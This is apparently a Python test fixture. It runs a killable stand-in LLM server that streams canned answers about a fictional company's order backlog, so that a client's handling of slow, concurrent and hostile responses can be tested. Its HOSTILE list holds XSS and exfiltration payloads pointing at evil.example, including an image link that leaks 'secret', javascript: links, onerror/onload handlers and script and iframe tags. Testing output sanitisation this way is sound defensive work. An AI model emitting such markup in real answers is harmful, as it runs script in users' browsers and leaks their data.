"""An LLM server in a process of its own, which a trial kills, and the answers it gives."""

from __future__ import annotations

import multiprocessing
import re
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).parent.parent))

from browsing import LOOPBACK, free_port
from llm_standin import StandIn, llm_standin

VISITORS, TOGETHER_S = 20, 240
BACKLOG = "What was Larkspur's order backlog at the end of 2023?"
TRUE, FALSE = "$94.6 million", "$109.3 million"
FACT = "Order backlog was $94.6 million"
FIGURES = f"Backlog was {TRUE} at December 31, 2023, against {FALSE} a year before [{{marker}}]."
HOSTILE = [
    "Revenue was $41 million [1].\n\n- ![x](https://evil.example/a.png?q=",
    "secret)\n- [read on](https://evil.example/b) and [go](javascript:alert(1))\n",
    "- <img src='https://evil.example/c.png' onerror=alert(1)> <script>alert(2)</script>\n",
    "- https://evil.example/d www.evil.example and <a href='https://evil.example/e'>here</a>\n",
    "- <iframe src='https://evil.example/f'></iframe> <style>*{display:none}</style>\n",
    "- ![data](data:image/svg+xml,<svg/onload=alert(3)>) <svg onload=alert(4)>\n\n",
    "| a | b |\n|---|---|\n| ![t](https://evil.example/g.png) | <b onclick=alert(5)>x</b> |\n\n",
    "[ref]: https://evil.example/h.png\n![ref] [1]\n",
]
_VISITOR = re.compile(r"Visitor (\d+)")
_PASSAGE = re.compile(r'<passage number="(\d+)"[^>]*>\n(.*?)\n</passage>', re.DOTALL)
_TOGETHER = threading.Barrier(VISITORS)


class KillableLLM:
    """The server: ``kill`` is ``kill -9``, ``start`` begins it again at the same address."""

    def __init__(self) -> None:
        self.port = free_port()
        self.url = f"http://{LOOPBACK}:{self.port}/v1"
        self._process: Any = None

    def start(self) -> None:
        """Begin, and wait until it listens."""
        context = multiprocessing.get_context("spawn")
        listening = context.Event()
        self._process = context.Process(target=_serve, args=[self.port, listening], daemon=True)
        self._process.start()
        assert listening.wait(60), "the LLM stand-in did not start"

    def kill(self) -> None:
        """End it in the middle of what it does."""
        self._process.kill()
        self._process.join()


def _serve(port: int, listening: Any) -> None:
    with llm_standin(StandIn(pieces=said), port):
        listening.set()
        threading.Event().wait()


def said(request: dict[str, Any]) -> Iterator[str]:
    """The answer to a request, by the words of its question."""
    prompt = str(request["messages"][-1]["content"])
    passages, _, question = prompt.rpartition("Question: ")
    if visitor := _VISITOR.search(question):
        yield from _to_visitor(visitor[1])
    elif "slowly" in question:
        yield "Backlog was "
        for word in "told in a great many words and after a long time":
            yield word
            time.sleep(0.4)
        yield f" {TRUE} [1]."
    elif "payload" in question:
        yield from HOSTILE
    else:
        found = [marker for marker, text in _PASSAGE.findall(passages) if FACT in text]
        yield from FIGURES.format(marker=found[0] if found else 1).partition(" million")


def _to_visitor(number: str) -> Iterator[str]:
    """No answer goes on before as many are under way as there are visitors."""
    yield f"To visitor {number}: "
    try:
        _TOGETHER.wait(TOGETHER_S)
        yield f"{VISITORS} were answered at once. "
    except threading.BrokenBarrierError:
        yield "not all were answered at once. "
    for _ in range(5):
        time.sleep(0.2)
        yield f"Still {number}. "
    yield f"Backlog was ${number} million [1]."
